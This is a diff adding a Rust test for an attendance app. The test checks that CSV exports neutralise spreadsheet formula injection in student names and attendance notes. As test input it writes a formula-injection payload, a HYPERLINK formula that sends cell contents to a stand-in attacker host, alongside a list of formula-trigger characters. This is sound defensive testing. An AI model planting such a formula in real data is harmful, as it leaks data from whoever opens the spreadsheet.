@@ -221,3 +221,51 @@ async fn each_session_held_is_reported_with_its_marks_counted(pool: PgPool) {
     let refused = sara.call("attendance.report_sessions", json!({ "cohort_id": cohort })).await.unwrap_err();
     assert_eq!(refused.kind, hub_model::ErrorKind::Forbidden);
 }
+
+/// A name or a note that a spreadsheet would run as a formula (a student renaming themselves
+/// `=HYPERLINK(…)`) is written as text in every export an administrator opens.
+#[sqlx::test(migrator = "hub_core::MIGRATOR")]
+async fn a_name_or_a_note_a_spreadsheet_would_run_is_exported_as_text(pool: PgPool) {
+    hub_core::demo::seed(&pool).await.unwrap();
+    let cohort = running(&pool).await;
+    let lina = Caller::as_user(&pool, user_id(&pool, "lead@demo.digitalhub.dev").await);
+    let nour_id = user_id(&pool, "student@demo.digitalhub.dev").await;
+    let nour = Caller::as_user(&pool, nour_id);
+    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Nour\")";
+    nour.call("profiles.update_mine", json!({ "full_name": formula })).await.unwrap();
+    let (session, enrollment) = sqlx::query!(
+        "select s.id as session, e.id as enrollment from sessions s join enrollments e on e.cohort_id = s.cohort_id
+          where s.cohort_id = $1 and s.date <= current_date and e.student_user_id = $2
+          order by s.date desc limit 1",
+        cohort,
+        nour_id
+    )
+    .fetch_one(&pool)
+    .await
+    .map(|row| (row.session, row.enrollment))
+    .unwrap();
+    lina.call(
+        "attendance.mark",
+        json!({ "session_id": session, "enrollment_id": enrollment, "status": "late", "note": "@SUM(1+1)" }),
+    )
+    .await
+    .unwrap();
+
+    for report in [
+        json!({ "report": "session", "session_id": session }),
+        json!({ "report": "cohort", "cohort_id": cohort }),
+        json!({ "report": "student", "enrollment_id": enrollment }),
+    ] {
+        let file = lina.call("attendance.export_csv", report.clone()).await.unwrap();
+        let cells: Vec<String> = csv::Reader::from_reader(file["content"].as_str().unwrap().as_bytes())
+            .records()
+            .flat_map(|record| record.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
+            .collect();
+        let runnable: Vec<&String> =
+            cells.iter().filter(|cell| cell.starts_with(['=', '+', '-', '@', '\t', '\r'])).collect();
+        assert_eq!(runnable, Vec::<&String>::new(), "{report}");
+        let expected =
+            if report["report"] == "student" { "'@SUM(1+1)".to_owned() } else { format!("'{formula}") };
+        assert!(cells.contains(&expected), "{report}: {cells:?}");
+    }
+}
